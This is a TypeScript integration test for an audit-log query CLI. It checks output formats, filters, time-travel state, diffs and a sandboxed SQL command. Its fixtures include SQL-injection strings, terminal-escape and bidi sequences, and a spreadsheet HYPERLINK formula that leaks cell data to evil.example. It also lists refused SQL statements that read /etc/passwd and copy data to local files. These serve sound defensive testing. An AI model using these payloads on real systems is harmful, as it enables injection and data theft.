/**
 * audit-query on the real S3 server, every flag: events go through the real
 * pipeline (AuditClient -> Kafka -> audit-consumer --drain -> Parquet on S3),
 * then the compiled CLI is run as users run it.
 */
import { createServer, type Server, type Socket } from 'node:net';
import { AuditClient, type AuditEventInput } from '../../producer';
import { binPath, isolatedEnv, runCli, type RunResult } from '../helpers/infra';
import { mapLimit } from '../../storage/concurrency';
import { execFile } from 'node:child_process';
import { join } from 'node:path';
import { createHash } from 'node:crypto';
import { access, mkdir, readdir, readFile, stat, writeFile } from 'node:fs/promises';
import { ROOT } from '../helpers/infra';

const DAY = (d: number, h = 12, m = 0) => Date.UTC(2026, 3, d, h, m); // April 2026
const iso = (ms: number) => new Date(ms).toISOString();

/** The history under test: create / read / update (snapshot) / update (changes only) / delete, by three actors over four days. */
const INVOICE = 'INV-7';
const SEQ: (AuditEventInput & { eventId: string; occurredAt: number })[] = [
  { eventId: 'a0000000-0000-4000-8000-000000000001', objectType: 'invoice', objectId: INVOICE, action: 'create', occurredAt: DAY(1, 9), actorId: 'alice', after: { status: 'draft', amount: 100, customer: 'c-1' } },
  { eventId: 'a0000000-0000-4000-8000-000000000002', objectType: 'invoice', objectId: INVOICE, action: 'read', occurredAt: DAY(1, 15), actorId: 'bob' },
  { eventId: 'a0000000-0000-4000-8000-000000000003', objectType: 'invoice', objectId: INVOICE, action: 'update', occurredAt: DAY(2, 10), actorId: 'bob', changes: { status: { old: 'draft', new: 'sent' } }, after: { status: 'sent', amount: 100, customer: 'c-1' } },
  { eventId: 'a0000000-0000-4000-8000-000000000004', objectType: 'invoice', objectId: INVOICE, action: 'update', occurredAt: DAY(3, 11), actorId: 'alice', changes: { amount: { old: 100, new: 120 }, note: { old: null, new: 'discount removed' } } },
  { eventId: 'a0000000-0000-4000-8000-000000000005', objectType: 'invoice', objectId: INVOICE, action: 'delete', occurredAt: DAY(4, 8), actorId: 'carol' },
];
const SEQ_IDS = SEQ.map((e) => e.eventId);

/** Ids that must come back exactly, next to decoys that naive string handling (LIKE, unescaped quotes, prefixes) would confuse them with. */
const HOSTILE: [type: string, id: string][] = [
  ['doc', "o'brien"],
  ['doc', "o''brien"],
  ['doc', 'say "hi"'],
  ['doc', 'back\\slash'],
  ['doc', 'back\\\\slash'],
  ['doc', 'a:b:c'],
  ['doc', 'a:b'],
  ['doc', 'x/y/../z'],
  ['doc', '100%'],
  ['doc', '100'],
  ['doc', '%'],
  ['doc', 'a_c'],
  ['doc', 'abc'],
  ['doc', '_'],
  ['doc', 'ünïcødé'],
  ['doc', 'u\u0308nicode'], // decomposed: must not match the composed one
  ['doc', '😀🎉'],
  ['doc', '\u202Eevil\u202C'],
  ['doc', 'שלום-مرحبا'],
  ['doc', "1' OR '1'='1"],
  ['doc', '1'],
  ['doc', "'; DROP TABLE audit; --"],
  ['doc', '$id'],
  ['doc', 'new\nline'],
  ['doc', ' leading space'],
  ['doc', 'l'.repeat(4000)],
  ['doc', 'l'.repeat(3999)],
  ["it's", 'ty"pe'],
];

/** Actors a hostile application (or a failed login's username) could store: terminal escapes, formulas, bidi. */
const SCREEN_ACTORS = [
  '\u001b[2J\u001b[1;1Hall clear',
  '\u001b]0;pwned\u0007',
  'admin\rroot',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '-2+3',
  '@SUM(A1:A9)',
  'two\nlines',
  'bidi \u202Egnp.exe',
  'c1 \u009b2J',
];
/** Anything a terminal acts on or that reorders text, except the newline between lines. */
const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/;

/** Every file under dir (but the consumer's work dir): path -> mode and sha256. */
async function snapshot(dir: string): Promise<Map<string, string>> {
  const out = new Map<string, string>();
  for (const entry of await readdir(dir, { recursive: true, withFileTypes: true })) {
    const path = join(entry.parentPath, entry.name);
    if (!entry.isFile() || path.startsWith(join(dir, 'work'))) continue;
    const mode = ((await stat(path)).mode & 0o777).toString(8);
    out.set(path, `${mode} ${createHash('sha256').update(await readFile(path)).digest('hex')}`);
  }
  return out;
}

function lines(text: string): string[] {
  return text.split('\n').filter((l) => l !== '');
}

function ndjson<T = Record<string, unknown>>(text: string): T[] {
  return lines(text).map((l) => JSON.parse(l) as T);
}

function expectUsageError(res: RunResult, pattern: RegExp): void {
  expect({ code: res.code, stdout: res.stdout }).toEqual({ code: 2, stdout: '' });
  expect(lines(res.stderr)).toHaveLength(1);
  expect(res.stderr).toMatch(/^audit-query: /);
  expect(res.stderr).toMatch(pattern);
}

describe('audit-query CLI on real S3 (every flag)', () => {
  const vars = isolatedEnv('querycli', { AUDIT_FLUSH_MAX_RECORDS: '1000', AUDIT_PARQUET_ROW_GROUP_ROWS: '2048' });
  const hostileIds = new Map<string, string[]>(); // type\0id -> event ids
  const q = (args: string[], extra: Record<string, string> = {}) => runCli('query', args, { ...vars, ...extra }, 60_000);

  beforeAll(async () => {
    const client = new AuditClient({ brokers: [vars.AUDIT_KAFKA_BROKERS!], topic: vars.AUDIT_TOPIC, sourceService: 'query-cli-test', onBufferFull: 'block' });
    for (const e of SEQ) await client.record(e);
    // Filler: 6,000 events of 300 orders over the same four days, so files hold many objects and row groups.
    for (let i = 0; i < 6000; i++) {
      await client.record({
        eventId: `b0000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
        objectType: 'order',
        objectId: i % 300,
        action: i < 300 ? 'create' : 'update',
        occurredAt: DAY(1, 0) + Math.floor((i * 4 * 86_400_000) / 6000),
        actorId: `user-${i % 17}`,
        changes: { n: { old: i - 1, new: i } },
      });
    }
    let n = 0;
    for (const [type, id] of HOSTILE) {
      const ids: string[] = [];
      for (let k = 0; k < 3; k++) {
        const eventId = `c0000000-0000-4000-8000-${String(++n).padStart(12, '0')}`;
        ids.push(eventId);
        await client.record({ eventId, objectType: type, objectId: id, action: k === 0 ? 'create' : 'update', occurredAt: DAY(2 + k, 6, n % 60), actorId: 'mallory', after: { id, k } });
      }
      hostileIds.set(`${type}\u0000${id}`, ids);
    }
    for (const [i, actorId] of SCREEN_ACTORS.entries()) {
      await client.record({ eventId: `d0000000-0000-4000-8000-${String(i).padStart(12, '0')}`, objectType: 'screen', objectId: 'S-1', action: 'login_failed', occurredAt: DAY(2, 7, i), actorId });
    }
    expect(await client.flush(60_000)).toBe(true);
    await client.close();
    expect(client.stats()).toMatchObject({ dropped: 0, invalid: 0 });
    const run = await runCli('consumer', ['--drain'], vars, 180_000);
    if (run.code !== 0) throw new Error(`audit-consumer --drain exited ${run.code}: ${run.stderr.slice(-3000)}`);
  }, 300_000);

  describe('--object and output formats', () => {
    it('prints the history oldest first as ndjson when stdout is not a TTY', async () => {
      const res = await q(['--object', `invoice:${INVOICE}`]);
      expect({ code: res.code, stderr: res.stderr }).toEqual({ code: 0, stderr: '' });
      const events = ndjson<{ event_id: string; occurred_at: string; action: string; after: unknown; changes: unknown }>(res.stdout);
      expect(events.map((e) => e.event_id)).toEqual(SEQ_IDS);
      expect(events.map((e) => e.occurred_at)).toEqual(SEQ.map((e) => `${iso(e.occurredAt).slice(0, 23)}000Z`));
      expect(events[0]!.after).toEqual({ status: 'draft', amount: 100, customer: 'c-1' });
      expect(events[3]!.changes).toEqual({ amount: { old: 100, new: 120 }, note: { old: null, new: 'discount removed' } });
    });

    it('--format json prints one JSON array with every field', async () => {
      const res = await q(['--object', `invoice:${INVOICE}`, '--format', 'json']);
      expect(res.code).toBe(0);
      const events = JSON.parse(res.stdout) as Record<string, unknown>[];
      expect(events.map((e) => e.event_id)).toEqual(SEQ_IDS);
      expect(Object.keys(events[0]!)).toEqual(expect.arrayContaining(['event_id', 'occurred_at', 'object_type', 'object_id', 'action', 'actor_id', 'changes', 'before', 'after', 'metadata', 'source_service']));
      expect(events[0]).toMatchObject({ object_type: 'invoice', object_id: INVOICE, actor_id: 'alice', source_service: 'query-cli-test' });
    });

    it('--format csv prints a header and RFC 4180 rows', async () => {
      const res = await q(['--object', `invoice:${INVOICE}`, '--format', 'csv']);
      expect(res.code).toBe(0);
      const rows = res.stdout.split('\r\n').filter(Boolean);
      expect(rows[0]!.split(',').slice(0, 5)).toEqual(['event_id', 'occurred_at', 'object_type', 'object_id', 'action']);
      expect(rows).toHaveLength(1 + SEQ.length);
      expect(rows[1]).toContain(SEQ_IDS[0]);
      expect(rows[1]).toContain('"{""status"":""draft"",""amount"":100,""customer"":""c-1""}"');
    });

    it('--format table prints aligned columns', async () => {
      const res = await q(['--object', `invoice:${INVOICE}`, '--format', 'table']);
      expect(res.code).toBe(0);
      const out = lines(res.stdout);
      expect(out[0]).toMatch(/^occurred_at\s+action\s+actor\s+/);
      expect(out[1]).toMatch(/^-+\s+-+/);
      expect(out.slice(2).map((l) => l.split(/\s+/)[1])).toEqual(SEQ.map((e) => e.action));
    });
  });

  describe('filters', () => {
    it('--since and --until select by event time (a date alone covers that whole day)', async () => {
      const since = await q(['--object', `invoice:${INVOICE}`, '--since', '2026-04-02']);
      expect(ndjson<{ event_id: string }>(since.stdout).map((e) => e.event_id)).toEqual(SEQ_IDS.slice(2));
      const until = await q(['--object', `invoice:${INVOICE}`, '--until', '2026-04-02']);
      expect(ndjson<{ event_id: string }>(until.stdout).map((e) => e.event_id)).toEqual(SEQ_IDS.slice(0, 3));
      const both = await q(['--object', `invoice:${INVOICE}`, '--since', '2026-04-01T12:00:00Z', '--until', '2026-04-03T11:00:00Z']);
      expect(ndjson<{ event_id: string }>(both.stdout).map((e) => e.event_id)).toEqual(SEQ_IDS.slice(1, 4));
      const offset = await q(['--object', `invoice:${INVOICE}`, '--since', '2026-04-02T12:00:00+02:00', '--until', '2026-04-02T10:00:00.000001Z']);
      expect(ndjson<{ event_id: string }>(offset.stdout).map((e) => e.event_id)).toEqual([SEQ_IDS[2]]);
    });

    it('--actor and --action filter, also combined', async () => {
      const alice = await q(['--object', `invoice:${INVOICE}`, '--actor', 'alice']);
      expect(ndjson<{ event_id: string }>(alice.stdout).map((e) => e.event_id)).toEqual([SEQ_IDS[0], SEQ_IDS[3]]);
      const updates = await q(['--object', `invoice:${INVOICE}`, '--action', 'update']);
      expect(ndjson<{ event_id: string }>(updates.stdout).map((e) => e.event_id)).toEqual([SEQ_IDS[2], SEQ_IDS[3]]);
      const both = await q(['--object', `invoice:${INVOICE}`, '--action', 'update', '--actor', 'bob']);
      expect(ndjson<{ event_id: string }>(both.stdout).map((e) => e.event_id)).toEqual([SEQ_IDS[2]]);
      const none = await q(['--object', `invoice:${INVOICE}`, '--action', 'update', '--actor', 'carol']);
      expect({ code: none.code, stdout: none.stdout }).toEqual({ code: 0, stdout: '' });
    });
  });

  describe('--as-of and --diff', () => {
    const asOf = async (t: string) => {
      const res = await q(['--object', `invoice:${INVOICE}`, '--as-of', t, '--format', 'json']);
      expect(res.code).toBe(0);
      return (JSON.parse(res.stdout) as Record<string, unknown>[])[0]!;
    };

    it('rebuilds the state at any time from snapshots and field changes', async () => {
      expect(await asOf('2026-03-31')).toMatchObject({ exists: false, state: null, version: 0, last_event_id: null });
      expect(await asOf('2026-04-01T10:00:00Z')).toMatchObject({ exists: true, version: 1, state: { status: 'draft', amount: 100, customer: 'c-1' }, last_action: 'create' });
      // The read on the 1st changes nothing; the snapshot of the 2nd replaces the state.
      expect(await asOf('2026-04-02T23:59:59Z')).toMatchObject({ exists: true, version: 2, state: { status: 'sent', amount: 100, customer: 'c-1' }, last_event_id: SEQ_IDS[2] });
      // Changes without a snapshot apply field by field. A date alone means the end of that day.
      expect(await asOf('2026-04-03')).toMatchObject({ exists: true, version: 3, state: { status: 'sent', amount: 120, customer: 'c-1', note: 'discount removed' }});
      expect(await asOf('2026-04-04T08:00:00Z')).toMatchObject({ exists: false, state: null, version: 4, last_action: 'delete', last_event_at: `${iso(DAY(4, 8)).slice(0, 23)}000Z` });
      // --as-of ignores --since (state needs every earlier event) but honours an earlier --until.
      const res = await q(['--object', `invoice:${INVOICE}`, '--as-of', '2026-04-03', '--since', '2026-04-01T12:00:00Z', '--until', '2026-04-01', '--format', 'json']);
      expect((JSON.parse(res.stdout) as Record<string, unknown>[])[0]).toMatchObject({ version: 1, state: { status: 'draft' } });
    });

    it('lists field-level changes between versions', async () => {
      const res = await q(['--object', `invoice:${INVOICE}`, '--diff', '--format', 'json']);
      expect(res.code).toBe(0);
      const diffs = (JSON.parse(res.stdout) as { version: number; action: string; actor_id: string; field: string; old: unknown; new: unknown }[]).map(
        ({ version, action, actor_id, field, old, new: nu }) => ({ version, action, actor_id, field, old, new: nu }),
      );
      expect(diffs).toEqual([
        { version: 1, action: 'create', actor_id: 'alice', field: 'amount', old: null, new: 100 },
        { version: 1, action: 'create', actor_id: 'alice', field: 'customer', old: null, new: 'c-1' },
        { version: 1, action: 'create', actor_id: 'alice', field: 'status', old: null, new: 'draft' },
        { version: 2, action: 'update', actor_id: 'bob', field: 'status', old: 'draft', new: 'sent' },
        { version: 3, action: 'update', actor_id: 'alice', field: 'amount', old: 100, new: 120 },
        { version: 3, action: 'update', actor_id: 'alice', field: 'note', old: null, new: 'discount removed' },
        { version: 4, action: 'delete', actor_id: 'carol', field: 'amount', old: 120, new: null },
        { version: 4, action: 'delete', actor_id: 'carol', field: 'customer', old: 'c-1', new: null },
        { version: 4, action: 'delete', actor_id: 'carol', field: 'note', old: 'discount removed', new: null },
        { version: 4, action: 'delete', actor_id: 'carol', field: 'status', old: 'sent', new: null },
      ]);
      const csv = await q(['--object', `invoice:${INVOICE}`, '--diff', '--format', 'csv']);
      expect(csv.stdout.split('\r\n')[0]).toBe('version,event_id,occurred_at,action,actor_id,field,old,new');
    });
  });

  describe('the sql command', () => {
    it('runs SQL over a view named audit', async () => {
      const res = await q(['sql', 'SELECT object_type, count(*)::INTEGER AS n FROM audit GROUP BY 1 ORDER BY 1', '--format', 'json']);
      expect(res.code).toBe(0);
      const rows = JSON.parse(res.stdout) as { object_type: string; n: number }[];
      expect(rows).toEqual(
        expect.arrayContaining([
          { object_type: 'invoice', n: SEQ.length },
          { object_type: 'order', n: 6000 },
          { object_type: 'doc', n: 3 * HOSTILE.filter(([t]) => t === 'doc').length },
        ]),
      );
    });

    it('prunes files with --since/--until (dt partitions)', async () => {
      const all = await q(['sql', 'SELECT count(*)::INTEGER AS n FROM audit', '--stats']);
      const day2 = await q(['sql', 'SELECT count(*)::INTEGER AS n, epoch_ms(min(occurred_at))::DOUBLE AS lo, epoch_ms(max(occurred_at))::DOUBLE AS hi FROM audit', '--since', '2026-04-02', '--until', '2026-04-02', '--stats']);
      expect(all.code).toBe(0);
      expect(day2.code).toBe(0);
      const [a] = ndjson<{ n: number }>(all.stdout);
      const d = ndjson<{ n: number; lo: number; hi: number }>(day2.stdout)[0];
      expect(d!.n).toBeGreaterThan(0);
      expect(d!.n).toBeLessThan(a!.n);
      expect(iso(Number(d!.lo)).slice(0, 10)).toBe('2026-04-02');
      expect(iso(Number(d!.hi)).slice(0, 10)).toBe('2026-04-02');
      const statsAll = JSON.parse(lines(all.stderr)[0]!) as { filesRead: number; filesListed: number };
      const statsDay = JSON.parse(lines(day2.stderr)[0]!) as { filesRead: number; filesListed: number };
      expect(statsDay.filesListed).toBeLessThan(statsAll.filesListed);
      expect(statsDay.filesRead).toBeLessThan(statsAll.filesRead);
    });

    it('event_id is a UUID column that compares with and prints as the usual text', async () => {
      const id = SEQ_IDS[2]!;
      const res = await q(['sql', `SELECT DISTINCT typeof(event_id) AS t FROM audit`, '--format', 'json']);
      expect(JSON.parse(res.stdout)).toEqual([{ t: 'UUID' }]);
      const one = await q(['sql', `SELECT event_id, action FROM audit WHERE event_id = '${id}'`, '--format', 'json']);
      expect(JSON.parse(one.stdout)).toEqual([{ event_id: id, action: 'update' }]);
    });

    it('reports bad SQL in one line with exit 2', async () => {
      expectUsageError(await q(['sql', 'SELEC nonsense FROM audit']), /SQL failed: Parser Error/);
      expectUsageError(await q(['sql', 'SELECT no_such_column FROM audit']), /SQL failed: Binder Error/);
    });

    describe('reads the audit data and nothing else', () => {
      const REFUSED = /SQL refused \(the sql command reads the audit view only\): /;
      const scratch = join(ROOT, '.test-cache', `${vars.AUDIT_TOPIC}-sandbox`);
      // A readable local file with a name DuckDB's replacement scans recognise.
      const secret = join(scratch, 'secret.csv');
      beforeAll(async () => {
        await mkdir(scratch, { recursive: true });
        await writeFile(secret, 'k,v\nsecret,42\n');
      });

      it.each([
        ['COPY ... TO a local file', `COPY (SELECT 1 AS x) TO '${join(scratch, 'copied.csv')}'`],
        ['COPY of the audit view to a local file', `COPY (SELECT * FROM audit) TO '${join(scratch, 'copied.parquet')}' (FORMAT parquet)`],
        ['EXPORT DATABASE', `EXPORT DATABASE '${join(scratch, 'exported')}'`],
        ['read_csv of a local file', "SELECT * FROM read_csv('/etc/os-release')"],
        ['read_text of a local file', "SELECT content FROM read_text('/etc/hostname')"],
        ['read_blob of a local file', "SELECT content FROM read_blob('/etc/passwd')"],
        ['a file named in FROM', `SELECT * FROM '${secret}'`],
        ['read_csv of a local CSV file', `SELECT * FROM read_csv('${secret}')`],
        ['glob', "SELECT * FROM glob('/etc/*')"],
        ['glob of the cache directory', `SELECT * FROM glob('${join(ROOT, '.test-cache')}/**')`],
        ['ATTACH of a database file', `ATTACH '${join(scratch, 'other.duckdb')}' AS other`],
        ['INSTALL', 'INSTALL httpfs'],
        ['LOAD', 'LOAD httpfs'],
        ['SET', "SET threads = 1"],
        ['SET of external access', 'SET enable_external_access = true'],
        ['RESET of the lock', 'RESET lock_configuration'],
        ['a refused statement after an allowed one', "SELECT count(*) FROM audit; SELECT * FROM read_csv('/etc/os-release')"],
      ])('refuses %s in one line with exit 2', async (_what, sql) => {
        expectUsageError(await q(['sql', sql]), REFUSED);
      });

      it('leaves no file behind from a refused COPY', async () => {
        const target = join(scratch, 'copied-check.csv');
        expectUsageError(await q(['sql', `COPY (SELECT 1 AS x) TO '${target}'`]), REFUSED);
        await expect(access(target)).rejects.toMatchObject({ code: 'ENOENT' });
      });

      it('cannot write the cached files it reads, nor change or print anything but its result', async () => {
        const cacheDir = vars.AUDIT_CACHE_DIR!;
        const filled = await q(['sql', 'SELECT count(*)::INTEGER AS n FROM audit', '--format', 'json']);
        expect(filled.code).toBe(0);
        const before = await snapshot(cacheDir);
        const data = [...before.keys()].filter((p) => p.endsWith('.sparse'));
        expect(data.length).toBeGreaterThan(0);
        // Complete data files are read-only on disk (root ignores the mode: the statement check is what stops it).
        for (const p of data) expect(before.get(p)!.split(' ')[0]).toBe('444');
        const target = data[0]!;
        const statements: [string, string][] = [
          ['COPY TO a cached data file', `COPY (SELECT * FROM audit LIMIT 1) TO '${target}' (FORMAT parquet)`],
          ['COPY inside EXPLAIN ANALYZE', `EXPLAIN ANALYZE COPY (SELECT 1 AS x) TO '${target}' (FORMAT parquet)`],
          ['a write through a table function', `SELECT * FROM query('COPY (SELECT 1 AS x) TO ''${target}'' (FORMAT parquet)')`],
          ['ATTACH of a cached file', `ATTACH '${target}' AS forged`],
          ['INSTALL', 'INSTALL parquet'],
          ['LOAD', 'LOAD parquet'],
          ['CREATE TABLE', 'CREATE TABLE forged AS SELECT * FROM audit'],
          ['CREATE OR REPLACE VIEW audit', "CREATE OR REPLACE VIEW audit AS SELECT 'forged' AS action"],
          ['SET', 'SET threads = 1'],
          ['PRAGMA enable_profiling', 'PRAGMA enable_profiling'],
          ['PRAGMA with output', "PRAGMA enable_profiling = 'json'"],
          ['CHECKPOINT', 'CHECKPOINT'],
          ['EXPORT DATABASE', `EXPORT DATABASE '${join(cacheDir, 'exported')}'`],
          ['a write after a read', `SELECT 1; COPY (SELECT 1 AS x) TO '${target}' (FORMAT parquet)`],
          ['a PRAGMA after a read, behind a comment', 'SELECT 1 /* ; */; PRAGMA enable_profiling'],
          ['an empty statement', ' ; '],
        ];
        for (const [what, sql] of statements) {
          const res = await q(['sql', sql]);
          expect({ what, code: res.code, stdout: res.stdout, lines: lines(res.stderr).length }).toEqual({ what, code: 2, stdout: '', lines: 1 });
          expect({ what, stderr: res.stderr }).toEqual({ what, stderr: expect.stringMatching(REFUSED) as unknown });
        }
        expect(await snapshot(cacheDir)).toEqual(before);
        // Lookups sharing the cache still read the stored rows.
        const history = await q(['--object', `invoice:${INVOICE}`]);
        expect(ndjson<{ event_id: string }>(history.stdout).map((e) => e.event_id)).toEqual(SEQ_IDS);
        // DESCRIBE, SHOW and SUMMARIZE are SELECTs to DuckDB: they run, and print only their result.
        const described = await q(['sql', 'DESCRIBE audit', '--format', 'json']);
        expect({ code: described.code, stderr: described.stderr }).toEqual({ code: 0, stderr: '' });
        expect((JSON.parse(described.stdout) as { column_name: string }[]).map((c) => c.column_name)).toContain('event_id');
      });

      it('still answers ordinary queries over audit, joins and CTEs included', async () => {
        const res = await q([
          'sql',
          `WITH per AS (SELECT object_type, count(*) AS n FROM audit GROUP BY 1)
           SELECT a.object_type, max(p.n)::INTEGER AS n FROM audit a JOIN per p USING (object_type) WHERE a.object_type = 'invoice' GROUP BY 1`,
          '--format',
          'json',
        ]);
        expect({ code: res.code, stderr: res.stderr }).toEqual({ code: 0, stderr: '' });
        expect(JSON.parse(res.stdout)).toEqual([{ object_type: 'invoice', n: SEQ.length }]);
      });
    });
  });

  describe('empty results', () => {
    it.each([
      ['ndjson', ''],
      ['json', '[]\n'],
      ['csv', ''],
      ['table', ''],
    ])('--format %s prints %j and exits 0', async (format, expected) => {
      const res = await q(['--object', 'invoice:does-not-exist', '--format', format]);
      expect({ code: res.code, stdout: res.stdout }).toEqual({ code: 0, stdout: expected });
      expect(res.stderr).toBe(format === 'table' ? 'no events for invoice:does-not-exist\n' : '');
    });

    it('--as-of of an unknown object is a non-existing state; --diff is empty', async () => {
      const asOf = await q(['--object', 'invoice:nope', '--as-of', '2026-04-03', '--format', 'json']);
      expect((JSON.parse(asOf.stdout) as Record<string, unknown>[])[0]).toMatchObject({ exists: false, version: 0 });
      const diff = await q(['--object', 'invoice:nope', '--diff', '--format', 'json']);
      expect({ code: diff.code, stdout: diff.stdout }).toEqual({ code: 0, stdout: '[]\n' });
    });
  });

  describe('bad arguments: exit 2, one line on stderr', () => {
    it.each([
      [['--object', 'invoice'], /--object must be TYPE:ID/],
      [['--object', ':42'], /--object must be TYPE:ID/],
      [['--object', 'invoice:'], /--object must be TYPE:ID/],
      [[], /--object TYPE:ID is required/],
      [['--object'], /argument missing/],
      [['--object', 'invoice:1', '--since', 'yesterday'], /--since is not an ISO-8601/],
      [['--object', 'invoice:1', '--until', '2026-02-30'], /--until is not a valid date/],
      [['--object', 'invoice:1', '--as-of', '2026-13-01'], /--as-of is not/],
      [['--object', 'invoice:1', '--since', '2026-04-03', '--until', '2026-04-01'], /--since is after --until/],
      [['--object', 'invoice:1', '--format', 'xml'], /--format must be one of table\|json\|ndjson\|csv/],
      [['--object', 'invoice:1', '--as-of', '2026-04-01', '--diff'], /cannot be combined/],
      [['--object', 'invoice:1', '--formt', 'json'], /unknown option '--formt'/],
      [['sql'], /missing required argument/],
      [['sql', 'SELECT 1', '--since', 'nope'], /--since is not an ISO-8601/],
      [['sql', 'SELECT 1', '--format', 'yaml'], /--format must be one of/],
      [['index', 'build', '--until', 'yesterday'], /--until is not an ISO-8601/],
      [['index', 'build', '--since', '2026-04-03', '--until', '2026-04-01'], /--since is after --until/],
      [['index', 'rebuild'], /unknown command 'rebuild'/],
    ])('%j', async (args, pattern) => {
      expectUsageError(await q(args as string[]), pattern as RegExp);
    });

    it('a bad store URL or configuration', async () => {
      expectUsageError(await q(['--object', 'invoice:1'], { AUDIT_STORE_URL: 'ftp://example.com/x' }), /invalid configuration: AUDIT_STORE_URL: invalid store URL/);
      expectUsageError(await q(['--object', 'invoice:1'], { AUDIT_S3_ENDPOINT: 'not a url' }), /invalid configuration/);
    });
  });

  describe('storage errors: exit 2, one line, within seconds', () => {
    let silent: Server;
    const sockets = new Set<Socket>();
    let silentPort = 0;
    let closedPort = 0;

    beforeAll(async () => {
      // Accepts connections and never answers (a hung proxy, a firewall that drops replies).
      silent = createServer((s) => {
        sockets.add(s);
        s.on('close', () => sockets.delete(s));
      });
      await new Promise<void>((r) => silent.listen(0, '127.0.0.1', r));
      silentPort = (silent.address() as { port: number }).port;
      const probe = createServer();
      await new Promise<void>((r) => probe.listen(0, '127.0.0.1', r));
      closedPort = (probe.address() as { port: number }).port;
      await new Promise<void>((r) => probe.close(() => r()));
    });

    afterAll(async () => {
      for (const s of sockets) s.destroy();
      await new Promise<void>((r) => silent.close(() => r()));
    });

    it('unreachable endpoint (connection refused)', async () => {
      const t0 = Date.now();
      const res = await q(['--object', 'invoice:1'], { AUDIT_S3_ENDPOINT: `http://127.0.0.1:${closedPort}` });
      expect(Date.now() - t0).toBeLessThan(5_000);
      expectUsageError(res, /storage unavailable: .*ECONNREFUSED.*endpoint http:\/\/127\.0\.0\.1/);
    });

    it('endpoint that accepts connections but never answers', async () => {
      const t0 = Date.now();
      const res = await q(['--object', 'invoice:1'], { AUDIT_S3_ENDPOINT: `http://127.0.0.1:${silentPort}` });
      expect(Date.now() - t0).toBeLessThan(10_000);
      expectUsageError(res, /storage unavailable: .*no answer within 5 s/);
    });

    it('missing bucket', async () => {
      const res = await q(['--object', 'invoice:1'], { AUDIT_STORE_URL: 's3://no-such-bucket-for-audit-tests/x' });
      const line = `audit-query: no store at s3://no-such-bucket-for-audit-tests/x (AUDIT_STORE_URL): bucket no-such-bucket-for-audit-tests does not exist (endpoint ${vars.AUDIT_S3_ENDPOINT})\n`;
      expect(res).toMatchObject({ code: 2, stdout: '', stderr: line });
      const sql = await q(['sql', 'SELECT 1'], { AUDIT_STORE_URL: 's3://no-such-bucket-for-audit-tests/x' });
      expect(sql).toMatchObject({ code: 2, stdout: '', stderr: line });
    });
  });

  describe('hostile stored text', () => {
    it('table output (history and sql) shows control and bidi characters escaped', async () => {
      for (const args of [['--object', 'screen:S-1', '--format', 'table'], ['sql', "SELECT actor_id, action FROM audit WHERE object_type = 'screen' ORDER BY event_id", '--format', 'table']]) {
        const res = await q(args);
        expect({ args, code: res.code, stderr: res.stderr }).toEqual({ args, code: 0, stderr: '' });
        expect({ args, active: ACTIVE.test(res.stdout) }).toEqual({ args, active: false });
        expect(lines(res.stdout)).toHaveLength(2 + SCREEN_ACTORS.length);
        expect(res.stdout).toContain('\\e[2J\\e[1;1Hall clear');
        expect(res.stdout).toContain('bidi \\u202Egnp.exe');
      }
    });

    it('csv neutralises formulas by default; ndjson returns the raw values', async () => {
      const csv = await q(['--object', 'screen:S-1', '--format', 'csv']);
      expect(csv.code).toBe(0);
      expect(ACTIVE.test(csv.stdout.replace(/\r\n/g, '\n').replace(/"two\nlines"/, ''))).toBe(false);
      expect(csv.stdout).toContain(',admin\\rroot,');
      expect(csv.stdout).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
      expect(csv.stdout).toContain(",'-2+3,");
      expect(csv.stdout).toContain(",'@SUM(A1:A9),");
      const raw = await q(['--object', 'screen:S-1', '--format', 'ndjson']);
      expect(ndjson<{ actor_id: string }>(raw.stdout).map((e) => e.actor_id)).toEqual(SCREEN_ACTORS);
    });

    it('an error line quoting stored text escapes it', async () => {
      const res = await q(['sql', "SELECT actor_id::INTEGER FROM audit WHERE object_type = 'screen' AND actor_id LIKE 'admin%'"]);
      expectUsageError(res, /SQL failed: Conversion Error: .*admin\\rroot/);
      expect(ACTIVE.test(res.stderr)).toBe(false);
    });
  });

  describe('hostile object ids', () => {
    it('returns exactly that object history, nothing else', async () => {
      await mapLimit(HOSTILE, 4, async ([type, id]) => {
        const res = await q(['--object', `${type}:${id}`, '--format', 'ndjson']);
        expect({ id, code: res.code, stderr: res.stderr }).toEqual({ id, code: 0, stderr: '' });
        const events = ndjson<{ event_id: string; object_type: string; object_id: string }>(res.stdout);
        expect({ id, got: events.map((e) => e.event_id) }).toEqual({ id, got: hostileIds.get(`${type}\u0000${id}`) });
        for (const e of events) expect([e.object_type, e.object_id]).toEqual([type, id]);
      });
    }, 240_000);

    it('hostile values in --actor and --action are data too', async () => {
      for (const value of ["alice' OR '1'='1", '%', 'alic_', "'; DROP TABLE audit; --"]) {
        const byActor = await q(['--object', `invoice:${INVOICE}`, '--actor', value]);
        const byAction = await q(['--object', `invoice:${INVOICE}`, '--action', value]);
        expect([byActor.code, byActor.stdout, byAction.code, byAction.stdout]).toEqual([0, '', 0, '']);
      }
    });
  });

  describe('cache and statistics', () => {
    it('a warm query fetches nothing but the listing; a cold one only byte ranges', async () => {
      const cache = { AUDIT_CACHE_DIR: join(ROOT, '.test-cache', `${vars.AUDIT_TOPIC}-stats`) };
      const cold = await q(['--object', 'order:42', '--stats'], cache);
      const warm = await q(['--object', 'order:42', '--stats'], cache);
      expect(cold.code).toBe(0);
      expect(warm.stdout).toBe(cold.stdout);
      expect(ndjson(cold.stdout)).toHaveLength(20);
      expect(lines(cold.stderr)).toHaveLength(1);
      const c = JSON.parse(cold.stderr) as { [k: string]: number; bytesCandidates: number };
      const w = JSON.parse(warm.stderr) as Record<string, number>;
      expect(c.filesRead).toBeGreaterThan(0);
      expect(c.filesSparse).toBe(c.filesRead);
      expect(c.dataBytesFetched).toBeGreaterThan(0);
      expect(c.dataBytesFetched).toBeLessThanOrEqual(c.bytesCandidates);
      expect(c.indexBytesFetched).toBeGreaterThan(0);
      expect(w).toMatchObject({ bytesFetched: 0, dataBytesFetched: 0, indexBytesFetched: 0, requests: 0, fallbacks: 0, filesRead: c.filesRead });
      expect(w.listCalls).toBeGreaterThan(0);
      // Another object, same cache: indexes are not fetched again.
      const other = JSON.parse((await q(['--object', 'order:43', '--stats'], cache)).stderr) as Record<string, number>;
      expect(other.indexBytesFetched).toBe(0);
    });

